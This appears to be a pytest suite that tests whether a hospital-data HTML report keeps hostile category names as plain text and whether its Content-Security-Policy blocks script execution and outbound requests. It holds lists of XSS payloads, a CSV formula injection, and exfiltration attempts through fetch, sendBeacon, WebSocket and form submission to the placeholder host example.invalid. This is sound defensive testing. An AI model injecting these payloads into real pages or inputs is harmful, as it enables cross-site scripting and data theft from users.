"""Hostile text stays text, and the page's policy lets nothing in or out."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import duckdb
import pytest

from conftest import write_report
from report_browser import Opened, choices, new_page, squeezed
from report_reading import CHARTS, FORMULA, NUMBER, csv_files

HOSTILE = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "</script x='1'",  # closes a script without a > of its own
    "<img src=x onerror=alert(3)>",
    "\"><svg onload=alert(4)>'",
    '=HYPERLINK("http://example.invalid","x")',
    "+61 2 9999 0000",
    "-1+1",
    "@SUM(A1)",
    "constructor",
    "__proto__",
    "toString",
    "{{ 7*7 }} ${alert(5)} {label} {value} $& $' $1",
    "two\u2028lines <!-- <script>",
    "javascript:alert(6)",
    "医院 🏥 \u202eright to left",
    "W" * 150,
    "&lt;b&gt; &amp; &#x27; %3Cscript%3E",
    "datum.value; alert(7) // ' or 1=1 --",
)
LISTS = {"facility": "dim_facilities", "department": "dim_departments", "doctor": "dim_doctors"}
# Where the report takes its words from: mart and column, and which of its rows.
NAMES = {
    ("dim_facilities", "name"): "true",
    ("dim_departments", "name"): "true",
    ("dim_doctors", "name"): "true",
    ("report_appointment_segments", "value"): "dimension = 'reason'",
    ("report_treatments", "treatment_type"): "true",
    ("report_treatment_outcomes", "treatment"): "true",
    ("report_bills", "payment_method"): "true",
    ("report_patients", "value"): "dimension = 'insurance'",
    ("report_cancer_cases", "value"): "true",
}


@pytest.fixture(scope="module")
def hostile_report(demo_warehouse, tmp_path_factory) -> Path:
    """The demo report with hostile names of doctors, facilities and departments, and categories."""
    folder = tmp_path_factory.mktemp("hostile_report")
    database = folder / "wardhouse.duckdb"
    database.write_bytes(demo_warehouse.read_bytes())
    with duckdb.connect(str(database)) as connection:
        for (table, column), where in NAMES.items():
            sql = f"select distinct {column} from marts.{table} where {where} order by 1"
            values = [value for (value,) in connection.execute(sql).fetchall()]
            values = [value for value in values if value not in ("all", "unknown")]
            connection.executemany(
                f"update marts.{table} set {column} = ? where {column} = ? and {where}",
                [[hostile(place), value] for place, value in enumerate(values)],
            )
    return write_report(database, folder / "no figures", folder / "index.html")


def hostile(place: int) -> str:
    """A hostile text for each place in a list, no two alike."""
    again, place = divmod(place, len(HOSTILE))
    return HOSTILE[place] + (f" {again}" if again else "")


@pytest.fixture(scope="module")
def attacked(browser, hostile_report) -> Iterator[Opened]:
    """The hostile report, with everything drawn."""
    opened = new_page(browser, hostile_report)
    opened.unpack_all()
    yield opened
    opened.close()


def test_hostile_text_is_text(report, attacked, hostile_report):
    page = attacked.page
    charts = page.evaluate(CHARTS)
    for name, values in choices(attacked).items():
        attacked.set_filters(**{name: values[1]})
    attacked.reset()
    assert attacked.problems() == []
    foreign = """() => [document.querySelectorAll('script:not(figure script)').length,
        document.querySelectorAll('iframe, object, embed, form, img:not(figure img)').length,
        document.links.length,
        [...document.querySelectorAll('*')]
            .filter(e => [...e.attributes].some(a => /^on/.test(a.name))).map(e => e.tagName)]"""
    assert page.evaluate(foreign) == report.page.evaluate(foreign)
    # it is all there, letter by letter
    with duckdb.connect(str(hostile_report.with_name("wardhouse.duckdb")), read_only=True) as marts:
        for name, mart in LISTS.items():
            names = dict(marts.execute(f"select {name}_id, name from marts.{mart}").fetchall())
            offered = page.evaluate(
                "n => [...document.getElementById(`filter-${n}`).options]"
                ".map(o => [o.value, o.textContent]).filter(([v]) => v)",
                name,
            )
            assert len(offered) > 5
            for code, text in offered:
                assert squeezed(names.get(code, text)) in squeezed(text), code
    cells = {squeezed(cell) for chart in charts for row in chart["table"] for cell in row}
    assert [text for text in HOSTILE if squeezed(text) not in cells] == []
    assert not [cell for cell in cells if "function" in cell or "[object" in cell]


def test_hostile_text_stays_text_in_a_csv_file(attacked):
    formulas = 0
    for name, rows in csv_files(attacked).values():
        for cell in (cell for row in rows for cell in row):
            formulas += cell.startswith("'=HYPERLINK")
            assert not cell.startswith(FORMULA) or NUMBER.fullmatch(cell), (name, cell)
    assert formulas, "no hostile formula came into a file"


def test_hostile_text_stays_text_under_the_pointer(attacked):
    page = attacked.page
    read = ""
    for chart in ("doctor-caseload", "branch-volume", "branch-no-shows"):
        for mark in page.locator(f"#chart-{chart} .mark-symbol.role-mark > path").all()[:8]:
            mark.scroll_into_view_if_needed()
            box = mark.bounding_box()
            page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
            page.mouse.move(box["x"] + box["width"] / 2 + 1, box["y"] + box["height"] / 2)
            tip = page.locator("#vg-tooltip-element.visible")
            if tip.count():
                read += tip.inner_text()
                assert tip.locator("script, img, svg, iframe, a").count() == 0
    assert "<img src=x" in read or "<script>" in read, read
    assert attacked.problems() == []


# --- the policy ----------------------------------------------------------------------------------


class Head(HTMLParser):
    """The policy of a page, and what comes before it."""

    def __init__(self) -> None:
        """Nothing is read yet."""
        super().__init__()
        self.policy, self.before = None, []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        """Note the first policy, and the tags before it."""
        found = dict(attributes)
        if (found.get("http-equiv") or "").lower() == "content-security-policy":
            self.policy = self.policy or found["content"]
        elif self.policy is None:
            self.before.append(tag)


def test_the_policy_allows_no_network_and_no_foreign_script(demo_report):
    head = Head()
    head.feed(demo_report.read_text(encoding="utf-8"))
    assert head.policy, "the page has no Content-Security-Policy"
    assert set(head.before) <= {"html", "head", "meta"}
    rules = {
        name: set(sources)
        for name, *sources in (part.split() for part in head.policy.split(";") if part.strip())
    }
    assert rules["default-src"] == {"'none'"}
    assert "connect-src" not in rules and "frame-src" not in rules
    assert rules["base-uri"] == rules["form-action"] == {"'none'"}
    assert rules["img-src"] <= {"data:", "blob:"}
    for name in ("script-src", "style-src"):
        assert rules[name]
        for source in rules[name]:
            kind, _, digest = source.strip("'").partition("-")
            assert kind == "sha256" and len(base64.b64decode(digest)) == 32, source


ATTEMPTS = (
    "eval('ran(0)')",
    "new Function('ran(1)')()",
    "setTimeout('ran(2)')",
    "body.append(Object.assign(make('script'), {textContent: 'ran(3)'}))",
    "body.append(Object.assign(make('img'), {src: 'x'}))",
    "body.insertAdjacentHTML('beforeend', '<img src=data: onerror=\"ran(5)\">')",
    "body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<script>parent.ran(6)</script>\">')",
    "body.append(Object.assign(make('iframe'), {src: 'https://example.invalid/'}))",
    "fetch('https://example.invalid/').then(() => ran(8))",
    "import('data:text/javascript,ran(9)')",
    "navigator.sendBeacon('https://example.invalid/', 'x')",
    "new WebSocket('wss://example.invalid/')",
    "new Worker('data:text/javascript,postMessage(1)').onmessage = () => ran(12)",
    "Object.assign(make('a'), {href: 'javascript:ran(13)'}).click()",
    "const f = make('form'); f.action = 'https://example.invalid/'; body.append(f); f.submit()",
    "body.append(Object.assign(make('link'), {rel: 'stylesheet', href: 'https://example.invalid/'}))",
    "body.append(Object.assign(make('link'), {rel: 'prefetch', href: 'https://example.invalid/'}))",
    "body.append(Object.assign(make('base'), {href: 'https://example.invalid/'}))",
)


def attempt_all(opened: Opened, attempts: tuple[str, ...] = ATTEMPTS) -> list[int]:
    """Run every attempt as a script in the page would; the numbers of those that ran."""
    attempts = "".join(
        f"setTimeout(async () => {{ try {{ {attempt} }} catch {{ }} }});" for attempt in attempts
    )
    opened.page.evaluate(
        """() => { window.done = []; window.ran = number => window.done.push(number);
            window.body = document.body; window.make = name => document.createElement(name); """
        + attempts
        + " return new Promise(done => setTimeout(done, 400)) }"
    )
    return sorted(
        opened.page.evaluate(
            "[...window.done, ...(document.baseURI.startsWith('file') ? [] : [17])]"
        )
    )


def test_the_policy_lets_nothing_in_and_nothing_out(open_report, demo_report):
    """Even a script that has come into the page gets nothing to run and sends nothing."""
    opened = open_report(demo_report)
    assert attempt_all(opened) == []
    assert opened.sent == []


def test_without_the_policy_the_same_attempts_succeed(open_report, tmp_path):
    page = tmp_path / "bare.html"
    page.write_text("<title>x</title><body><script>window.wardhouse = {}</script>")
    opened = open_report(page)
    # a page that sends a form is gone, and what it noted with it
    staying = tuple(attempt for attempt in ATTEMPTS if "submit()" not in attempt)
    assert attempt_all(opened, staying) == [0, 1, 2, 3, 5, 6, 9, 12, 13, 17]
    assert len(opened.sent) >= 7
